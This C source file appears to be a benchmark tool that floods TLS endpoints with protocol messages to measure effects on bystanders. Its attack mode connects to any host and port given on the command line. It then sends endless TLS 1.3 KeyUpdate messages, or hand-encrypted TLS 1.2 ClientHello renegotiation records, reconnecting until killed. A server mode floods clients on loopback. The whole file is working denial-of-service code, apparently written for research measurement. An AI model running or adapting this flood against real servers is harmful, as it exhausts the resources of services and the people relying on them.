// SPDX-License-Identifier: BSD-3-Clause
// Messages of TLS itself without end, for bystander_run.py, which says when by a byte in a file.
//
// usage: bench_tlsflood keys|hellos FILE ALPN HOST PORT SINK_HOST SINK_PORT
//        bench_tlsflood serve FILE PORT CERT KEY
// keys: after a handshake of TLS 1.3, KeyUpdates. hellos: after one of TLS 1.2, ClientHellos.
// serve: KeyUpdates from a server on loopback, once a client has sent something; its sink is the
// client of PORT + 1. A connection that ends is made again. FILE: what the script and its attackers
// share (struct shared). It runs until it is killed.
#include <arpa/inet.h>
#include <err.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <openssl/core_names.h>
#include <openssl/evp.h>
#include <openssl/kdf.h>
#include <openssl/params.h>
#include <openssl/ssl.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { QUIET, WEIR, SINK }; // whom an attacker attacks
// As attackers.py has it.
struct shared {
	_Atomic uint64_t phase;
	_Atomic uint64_t connections[SINK + 1], bytes[SINK + 1];
};
enum {
	BYTES_S = 2500000, // 20 Mbit/s, as strangers had it
	STEP_MS = 5,
	AGAIN_MS = 20, // between two connections
	RECORD = 65,   // what OpenSSL takes off a socket at once always ends within one of these
	HELLO = 36,    // of the record in TLS 1.2: all but its head, its nonce and its tag
	STEP = BYTES_S / 1000 * STEP_MS / RECORD,
};

static struct shared *shared;

static void wait_ms(long ms)
{
	nanosleep(&(struct timespec){.tv_nsec = ms * 1000000}, NULL);
}

// Sends all of it, and forgets what the peer says. False: the connection has ended, or the phase.
static bool sent(int fd, const uint8_t *bytes, size_t len, uint64_t phase)
{
	static uint8_t unread[65536];
	while (len > 0 && shared->phase == phase) {
		const ssize_t got = recv(fd, unread, sizeof(unread), MSG_DONTWAIT);
		const ssize_t put = send(fd, bytes, len, MSG_NOSIGNAL | MSG_DONTWAIT);
		if (got == 0 || (put < 0 && errno != EAGAIN))
			return false;
		if (put < 0) {
			wait_ms(1);
			continue;
		}
		bytes += put;
		len -= (size_t)put;
		shared->bytes[phase] += (uint64_t)put;
	}
	return len == 0;
}

static bool key_updates(SSL *ssl, uint64_t phase)
{
	BIO *memory = BIO_new(BIO_s_mem());
	uint8_t *bytes;
	bool made = BIO_up_ref(memory) == 1;
	SSL_set0_wbio(ssl, memory);
	for (int i = 0; i < STEP && made; i++)
		made = SSL_key_update(ssl, SSL_KEY_UPDATE_NOT_REQUESTED) == 1
		       && SSL_do_handshake(ssl) == 1;
	const long len = BIO_get_mem_data(memory, &bytes);
	const bool gone = made && sent(SSL_get_rfd(ssl), bytes, (size_t)len, phase);
	BIO_free(memory);
	return gone;
}

// The client's key and the fixed part of its nonce (RFC 5246 6.3, RFC 5288 3).
static void keys_derive(SSL *ssl, uint8_t block[40])
{
	uint8_t master[48], seed[13 + 64] = "key expansion";
	SSL_SESSION_get_master_key(SSL_get_session(ssl), master, sizeof(master));
	SSL_get_server_random(ssl, seed + 13, 32);
	SSL_get_client_random(ssl, seed + 45, 32);
	EVP_KDF *kdf = EVP_KDF_fetch(NULL, "TLS1-PRF", NULL);
	EVP_KDF_CTX *ctx = EVP_KDF_CTX_new(kdf);
	const OSSL_PARAM params[] = {
		OSSL_PARAM_construct_utf8_string("digest", (char[]){"SHA256"}, 0),
		OSSL_PARAM_construct_octet_string("secret", master, sizeof(master)),
		OSSL_PARAM_construct_octet_string("seed", seed, sizeof(seed)),
		OSSL_PARAM_construct_end()};
	if (EVP_KDF_derive(ctx, block, 40, params) != 1)
		errx(1, "no keys");
	EVP_KDF_CTX_free(ctx);
	EVP_KDF_free(kdf);
}

static bool hellos(SSL *ssl, uint64_t phase)
{
	static uint8_t records[STEP][RECORD];
	static uint64_t number;
	static SSL *of;
	static uint8_t block[40];
	static EVP_CIPHER_CTX *gcm;
	if (of != ssl || number == 0) {
		keys_derive(ssl, block);
		of = ssl;
		number = 1; // 0 was Finished
		gcm = gcm ? gcm : EVP_CIPHER_CTX_new();
	}
	for (int i = 0; i < STEP; i++, number++) {
		static const uint8_t hello[HELLO] = {1, 0, 0, HELLO - 4};
		uint8_t nonce[12], head[13] = {[8] = 22, 3, 3, 0, HELLO}, *out = records[i];
		int n;
		memcpy(nonce, block + 32, 4);
		for (int at = 0; at < 8; at++)
			nonce[4 + at] = head[at] = (uint8_t)(number >> (56 - 8 * at));
		memcpy(out, (uint8_t[]){22, 3, 3, 0, RECORD - 5}, 5);
		memcpy(out + 5, nonce + 4, 8);
		EVP_EncryptInit_ex(gcm, EVP_aes_128_gcm(), NULL, block, nonce);
		EVP_EncryptUpdate(gcm, NULL, &n, head, sizeof(head));
		EVP_EncryptUpdate(gcm, out + 13, &n, hello, HELLO);
		EVP_EncryptFinal_ex(gcm, out + 13 + HELLO, &n);
		EVP_CIPHER_CTX_ctrl(gcm, EVP_CTRL_AEAD_GET_TAG, 16, out + 13 + HELLO);
	}
	if (sent(SSL_get_rfd(ssl), records[0], sizeof(records), phase))
		return true;
	number = 0;
	return false;
}

static void flood(SSL *ssl, bool (*step)(SSL *, uint64_t), uint64_t phase)
{
	shared->connections[phase]++;
	SSL_set_block_padding(ssl, RECORD - 5 - 16);
	while (shared->phase == phase && step(ssl, phase))
		wait_ms(STEP_MS);
}

static void close_all(SSL *ssl, int fd)
{
	SSL_set_quiet_shutdown(ssl, 1);
	SSL_free(ssl);
	close(fd);
}

static SSL *begun(SSL_CTX *ctx, int fd)
{
	const struct timeval patience = {.tv_sec = 2};
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof(patience));
	setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &(int){1}, sizeof(int));
	SSL *ssl = SSL_new(ctx);
	SSL_set_fd(ssl, fd);
	return ssl;
}

static struct sockaddr_in place(const char *host, int port)
{
	struct sockaddr_in out = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
	if (inet_pton(AF_INET, host, &out.sin_addr) != 1)
		errx(1, "%s is no address", host);
	return out;
}

static void attack(bool by_keys, char **argv)
{
	SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());
	uint8_t alpn[16] = {(uint8_t)strlen(argv[0])};
	memcpy(alpn + 1, argv[0], alpn[0]);
	SSL_CTX_set_alpn_protos(ctx, alpn, alpn[0] + 1U);
	SSL_CTX_set_min_proto_version(ctx, by_keys ? TLS1_3_VERSION : TLS1_2_VERSION);
	SSL_CTX_set_max_proto_version(ctx, by_keys ? TLS1_3_VERSION : TLS1_2_VERSION);
	SSL_CTX_set_cipher_list(ctx, "ECDHE-ECDSA-AES128-GCM-SHA256");
	const struct sockaddr_in to[] = {
		[WEIR] = place(argv[1], atoi(argv[2])), [SINK] = place(argv[3], atoi(argv[4]))};
	for (;; wait_ms(AGAIN_MS)) {
		const uint64_t phase = shared->phase;
		if (phase == QUIET)
			continue;
		const int fd = socket(AF_INET, SOCK_STREAM, 0);
		SSL *ssl = begun(ctx, fd);
		if (connect(fd, (const void *)&to[phase], sizeof(to[phase])) == 0
			&& SSL_connect(ssl) == 1)
			flood(ssl, by_keys ? key_updates : hellos, phase);
		close_all(ssl, fd);
	}
}

// A child serves this client.
static void serve_one(SSL_CTX *ctx, int fd, uint64_t whom)
{
	SSL *ssl = begun(ctx, fd);
	uint8_t byte;
	if (SSL_accept(ssl) == 1 && SSL_read(ssl, &byte, 1) == 1 && shared->phase == whom)
		flood(ssl, key_updates, whom);
	close_all(ssl, fd);
}

static _Noreturn void serve_port(SSL_CTX *ctx, int port, uint64_t whom)
{
	const struct sockaddr_in at = place("127.0.0.1", port);
	const int listener = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &(int){1}, sizeof(int));
	if (bind(listener, (const void *)&at, sizeof(at)) != 0 || listen(listener, 64) != 0)
		err(1, "port %d", port);
	for (int fd; (fd = accept(listener, NULL, NULL)) >= 0; close(fd)) {
		if (fork() == 0) {
			serve_one(ctx, fd, whom);
			_exit(0);
		}
	}
	err(1, "accept");
}

static void serve(char **argv)
{
	SSL_CTX *ctx = SSL_CTX_new(TLS_server_method());
	if (SSL_CTX_use_certificate_chain_file(ctx, argv[1]) != 1
		|| SSL_CTX_use_PrivateKey_file(ctx, argv[2], SSL_FILETYPE_PEM) != 1)
		errx(1, "no certificate");
	SSL_CTX_set_num_tickets(ctx, 0);
	const bool is_sink = fork() == 0;
	serve_port(ctx, atoi(argv[0]) + is_sink, is_sink ? SINK : WEIR);
}

int main(int argc, char **argv)
{
	if (argc < 6)
		errx(2, "see the head of bench_tlsflood.c");
	const int fd = open(argv[2], O_RDWR);
	shared = mmap(NULL, sizeof(*shared), PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (shared == MAP_FAILED)
		err(1, "%s", argv[2]);
	signal(SIGCHLD, SIG_IGN);
	if (!strcmp(argv[1], "serve"))
		serve(argv + 3);
	else if (argc == 8)
		attack(!strcmp(argv[1], "keys"), argv + 3);
	return 1;
}
